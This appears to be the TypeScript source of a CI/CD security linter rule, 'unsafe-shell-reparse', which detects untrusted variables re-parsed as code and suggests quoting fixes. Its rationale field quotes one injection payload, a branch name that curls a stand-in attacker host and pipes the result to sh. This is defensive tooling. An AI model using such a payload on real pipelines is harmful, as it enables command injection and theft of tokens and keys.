import type { ScriptRun } from "../../src/rule/audit.ts";
import { defineRule, type Reported } from "../../src/rule/rule.ts";
import type { CommandFact } from "../../src/shell/facts.ts";
import { quote } from "../../src/source/quote.ts";
import { scriptsByFacts } from "../data/scripts-by-facts.ts";
import { codeWordsOf, type CodeWord } from "../data/untrusted/code-words.ts";
import { isReadAtRunTime, textOriginsOf } from "../data/untrusted/origins.ts";
import { untrustedReads, type UntrustedRead } from "../data/untrusted/reads.ts";
import { isTestedBefore, testedFirst } from "./tested.ts";
import { gainOf, jobOf, maySayAnything, nameOfRead, wayTo } from "./wording.ts";

export const unsafeShellReparse = defineRule({
  meta: {
    id: "unsafe-shell-reparse",
    title: "Untrusted text is parsed as code again",
    summary:
      "A variable whose text somebody else chooses becomes part of what `eval`, `sh -c`, `ssh`, `python -c` or a fed shell runs.",
    rationale:
      "A shell does not look into the value of a variable, until the value is given to something that parses it once more. A branch named " +
      "`x$(curl${IFS}attacker.example|sh)` is then no name but a command, with the contexts, the OIDC token and the SSH keys of the job.",
    remediation:
      'Hand the value over as data: as an argument (`sh -c \'deploy "$1"\' _ "$NAME"`), as an environment variable that the inner script reads itself, or quoted with `printf %q`.',
    limits:
      "Values are followed through variables, `$( )`, text filters, `environment:` and `$BASH_ENV`, not through files and functions. Recipes of make and scripts of package managers are not looked into.",
    severity: "high",
    confidence: "medium",
    profile: "regular",
    data: "config",
    tags: { owasp: ["CICD-SEC-4"], cwe: ["CWE-78", "CWE-95"] },
    references: [
      { title: "Bash FAQ 48: eval and security", url: "https://mywiki.wooledge.org/BashFAQ/048" },
      { title: "CWE-95: eval injection", url: "https://cwe.mitre.org/data/definitions/95.html" },
    ],
    since: "0.2.0",
  },
  *check(audit) {
    for (const [facts, scripts] of scriptsByFacts(audit.scripts)) {
      for (const code of facts.commands.flatMap((command) => [...codeWordsOf(command, facts)])) {
        const origins = textOriginsOf(code.word, code.owner, facts).filter(isReadAtRunTime);
        for (const script of origins.length === 0 ? [] : scripts) {
          for (const read of untrustedReads(origins, script, audit).filter(maySayAnything)) yield report(read, script, code);
        }
      }
    }
  },
});

function report(read: UntrustedRead, script: ScriptRun, { runner, how }: CodeWord): Reported {
  const { run, step, facts, locate } = script;
  const { source } = read;
  const isTested = isTestedBefore(read, runner, facts);
  return {
    at: locate(read.span),
    ...(source.level === "limited" ? { severity: "low" } : {}),
    ...(how === "file" ? { severity: "medium" } : {}),
    ...(how === "file" || isTested ? { confidence: "low" } : {}),
    message:
      how === "file"
        ? `${nameOfRead(read)} chooses the file that ${quote(runner.name ?? "")} runs in ${jobOf(run)}, and ${source.who} chooses its text.`
        : `${nameOfRead(read)} becomes part of what ${runnerOf(runner)} in ${jobOf(run)}${gainOf(source)}${isTested ? testedFirst : ""}`,
    replacement: replacementFor(runner, read.origin.variable ?? "VALUE", how),
    trace: wayTo(read, script, "it is parsed again here"),
    route: { run, hops: step.hops },
  };
}

function runnerOf({ name = "", place }: CommandFact): string {
  if (name === "ssh") return "the shell on the other host runs for `ssh`";
  return `${quote(name)} runs${place === "container" ? " inside a container" : ""}`;
}

function replacementFor({ name = "", input }: CommandFact, variable: string, how: CodeWord["how"]): string {
  if (how === "file") return `case "$${variable}" in\n  main) source ./main.sh ;;\n  *) source ./other.sh ;;\nesac`;
  if (input.kind === "heredoc" && input.expands && name !== "ssh")
    return `export ${variable}\n${name} <<'EOF'\n… "$${variable}" …\nEOF`;
  if (name === "ssh" || name === "gcloud")
    return `${name === "ssh" ? "ssh host " : "gcloud compute ssh host --command="}"… $(printf %q "$${variable}")"`;
  if (name === "eval" || name === "trap") return `# call the command itself\n… "$${variable}"`;
  if (name.startsWith("python")) return `${variable}="$${variable}" ${name} -c 'import os; … os.environ["${variable}"] …'`;
  if (/^(?:node|bun|deno)/u.test(name)) return `${variable}="$${variable}" ${name} -e '… process.env.${variable} …'`;
  return `${name} -c '… "$1" …' _ "$${variable}"`;
}
